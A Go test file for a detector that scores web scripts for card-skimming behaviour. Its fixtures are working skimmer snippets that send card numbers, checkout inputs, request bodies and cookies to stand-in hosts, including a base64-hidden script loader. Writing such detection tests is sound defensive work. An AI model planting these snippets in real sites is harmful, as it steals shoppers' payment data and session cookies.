package script_test

import (
	"context"
	"slices"
	"testing"

	"tradecraft/intake/site/script"
)

func assess(t *testing.T, text string, o script.Options) *script.Assessment {
	t.Helper()
	a, _, err := script.Assess(context.Background(), []byte(text), o)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestAssess(t *testing.T) {
	tests := map[string]struct {
		text, behaviour string
		line            int
	}{
		"beacon": {"document.addEventListener('submit',function(){\n var c=document.querySelector('[name=cardnumber]').value;\n" +
			" navigator.sendBeacon('https://stats-cdn.top/c',btoa(c))})", "payment-to-odd-host", 3},
		"gated scrape": {"if(/checkout/.test(location.href)){setInterval(function(){var o={};document.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});" +
			"fetch('https://data-gather.biz/x',{method:'POST',body:JSON.stringify(o)})},900)}", "checkout-scrape", 1},
		"hook": {"var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){new Image().src='https://pix-gather.top/p?'+btoa(b);return s.apply(this,arguments)}",
			"request-copied", 1},
		"evaluated": {"eval(atob('" + "aWYoL2NoZWNrb3V0Ly50ZXN0KGxvY2F0aW9uKSl7dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9Jy8vc3RhdHMtY2RuLnRvcC9hLmpzJztkb2N1bWVudC5oZWFkLmFwcGVuZENoaWxkKHMpfQ==" + "'))",
			"hidden-skimmer", 1},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			a := assess(t, tt.text, script.Options{})
			i := slices.IndexFunc(a.Findings, func(f script.Finding) bool { return f.Behaviour == tt.behaviour })
			if i < 0 {
				t.Fatalf("no %s in %+v", tt.behaviour, a.Findings)
			}
			if a.Findings[i].Line != tt.line {
				t.Errorf("line %d, want %d", a.Findings[i].Line, tt.line)
			}
			if a.Verdict == script.Clean {
				t.Errorf("clean at %.2f", a.Malicious)
			}
		})
	}
}

// TestAuthorized: whose the destination is decides what the same text means.
func TestAuthorized(t *testing.T) {
	text := "form.onsubmit=function(){var c=document.querySelector('[name=cardnumber]').value;fetch('https://api.vendor-pay.biz/token',{method:'POST',body:c})}"
	with := assess(t, text, script.Options{AuthorizedHosts: []string{"vendor-pay.biz"}})
	without := assess(t, text, script.Options{})
	if with.Malicious >= without.Malicious {
		t.Errorf("authorised %.3f, not authorised %.3f", with.Malicious, without.Malicious)
	}
	for _, f := range with.Findings {
		if f.Level == script.LevelFinding {
			t.Errorf("authorised: %s", f.Behaviour)
		}
	}
}

func TestReasonsAddUp(t *testing.T) {
	a := assess(t, "fetch('https://a.top/'+document.cookie)", script.Options{})
	sum := 0.0
	for _, r := range a.Reasons {
		sum += r.Points
	}
	if d := sum - a.Score; d > 1e-9 || d < -1e-9 {
		t.Errorf("reasons give %f, score is %f", sum, a.Score)
	}
}

func FuzzAssess(f *testing.F) {
	for _, s := range []string{"eval(atob('YWxlcnQoMSk='))", "<script>document.write('<script src=//a.top/x.js>')</script>", "var a=['x'];function b(c){return a[c-1]}b(1)",
		"<form action=https://a.top><input name=cvv></form>"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		a, _, err := script.Assess(context.Background(), b, script.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range a.Findings {
			if x.Line < 1 || x.Column < 1 || x.Start > x.End || x.End > len(b) {
				t.Fatalf("%+v in %d bytes", x, len(b))
			}
		}
	})
}
